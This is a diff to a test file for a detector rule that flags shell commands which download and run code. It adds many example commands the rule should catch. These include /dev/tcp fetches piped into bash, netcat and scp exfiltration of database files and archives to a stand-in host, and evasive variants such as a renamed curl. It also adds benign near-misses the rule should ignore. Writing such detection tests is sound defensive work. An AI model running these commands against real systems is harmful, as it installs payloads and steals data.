@@ -85,9 +85,57 @@ describe('rule exec-download', () => {
       ],
       ['by another program', { command: 'aria2c https://files.example.com/a' }],
       ['by IPv6', { command: 'curl -O http://[2001:db8::9]/a' }],
+      ['shown twice', { command: 'sh -c curl -s https://files.example.com/a | tee /dev/stderr | jq .' }, LESSER],
       ['only shown', { command: 'curl -s https://files.example.com/a' }, LESSER],
       ['shown by wget', { command: 'wget -qO- https://files.example.com/a' }, LESSER],
       ['thrown away', { command: 'curl -so /dev/null https://files.example.com/a' }, LESSER],
+      [
+        'asked for by the shell itself, as installers of miners do',
+        {
+          command:
+            'bash -c exec 3<>/dev/tcp/203.0.113.9/80; echo -en "GET /k HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3 > /dev/shm/k',
+        },
+      ],
+      [
+        'asked for by a function of the shell',
+        {
+          command:
+            'bash -c f() { exec 3<>/dev/tcp/$H/80; printf "GET $P HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3; }; f http://203.0.113.9/k | bash',
+        },
+      ],
+      [
+        'asked for by the shell, only shown',
+        {
+          command: 'bash -c exec 3<>/dev/tcp/www.example.com/80; printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3',
+        },
+        LESSER,
+      ],
+      ['read from a device', { command: 'bash -c cat </dev/tcp/203.0.113.9/80 > /tmp/k; chmod +x /tmp/k; /tmp/k' }],
+      ['run by a shell as somebody else', { command: 'sh -c curl -sL https://files.example.com/x | sudo -E bash -' }],
+      ['run by a shell with a variable', { command: 'sh -c curl -s https://files.example.com/x | env A=1 busybox sh' }],
+      ['read by the shell itself', { command: 'bash -c . <(curl -s https://files.example.com/x)' }],
+      ['into a file, behind a bar', { command: 'sh -c curl -s https://files.example.com/x | tee /tmp/x' }],
+      ['into a file, by dd', { command: 'sh -c curl -s https://files.example.com/x | dd of=/tmp/x' }],
+      [
+        'by Python, in lines of its own',
+        {
+          command:
+            "sh -c python3 - <<E\nimport urllib.request as u\nu.urlretrieve('http://203.0.113.9/k', '/tmp/k')\nE",
+        },
+      ],
+      ['installed from an address', { command: 'pip install --quiet http://203.0.113.9/x.tar.gz' }],
+      ['by netcat, with quotes in its address', { command: `sh -c nc 1''98.5"1".100.4 9000 > /tmp/k` }],
+      ['by netcat', { command: 'sh -c nc 203.0.113.9 9000 > /tmp/k' }],
+      ['by socat', { command: 'sh -c socat - TCP:203.0.113.9:80 >/tmp/k' }],
+      ['a file that netcat sends', { command: 'sh -c nc -w 3 203.0.113.9 9000 < /data/orders.sql' }],
+      ['an archive that netcat sends', { command: 'sh -c tar cz /data | busybox nc 203.0.113.9 9000' }],
+      ['copied over SSH', { command: 'scp -o StrictHostKeyChecking=no root@203.0.113.9:/k /tmp/k' }],
+      ['sent over SSH', { command: 'scp /data/orders.sql root@203.0.113.9:/u' }],
+      ['by TFTP', { command: 'busybox tftp -g -r k 203.0.113.9' }],
+      ['by FTP', { command: 'ftpget 203.0.113.9 /tmp/k k' }],
+      ['by a text browser', { command: 'sh -c lynx -source http://203.0.113.9/k > /tmp/k' }],
+      ['by curl under another name, for a shell', { command: 'sh -c /tmp/cd1 -fsSL http://203.0.113.9/x | bash' }],
+      ['by curl wherever it is, for a shell', { command: 'sh -c $(which curl) -s http://203.0.113.9/x | sh' }],
       ['refused', { code: 7 }, { severity: 'medium', confidence: 0.55 }],
     ],
     misses: [
@@ -112,6 +160,24 @@ describe('rule exec-download', () => {
       ['looked for', { command: 'sh -c ps aux | grep curl http://203.0.113.9/' }],
       ['looked for without spaces', { command: 'sh -c ps aux|grep curl http://203.0.113.9/' }],
       ['where it is', { command: 'which curl' }],
+      [
+        'the health of the own host, by the shell itself',
+        {
+          command:
+            'bash -c exec 3<>/dev/tcp/127.0.0.1/9000; printf "GET /health HTTP/1.1\\r\\n\\r\\n" >&3; cat <&3 > /tmp/h',
+        },
+      ],
+      ['a port that is tried', { command: `bash -c 'timeout 3 bash -c "</dev/tcp/8.8.8.8/443" > /tmp/up'` }],
+      ['a port that netcat tries', { command: 'sh -c nc -zv 203.0.113.9 443 > /tmp/up' }],
+      ['a word that is sent to a port', { command: 'sh -c echo ruok | nc 203.0.113.9 2181' }],
+      ['copied within a private network', { command: 'rsync -a backup@10.0.0.9:/data/ /data/' }],
+      ['copied to a host with a name', { command: 'scp /data/a.sql backup@files.example.com:/u' }],
+      [
+        'a certificate that is looked at',
+        { command: 'sh -c openssl s_client -connect 203.0.113.9:443 </dev/null >/tmp/c' },
+      ],
+      ['an address that is only said', { command: 'sh -c echo http://203.0.113.9/x | sh' }],
+      ['installed from the usual place', { command: 'pip install requests==2.31' }],
       ['no such pod', { code: 5 }],
     ],
   });
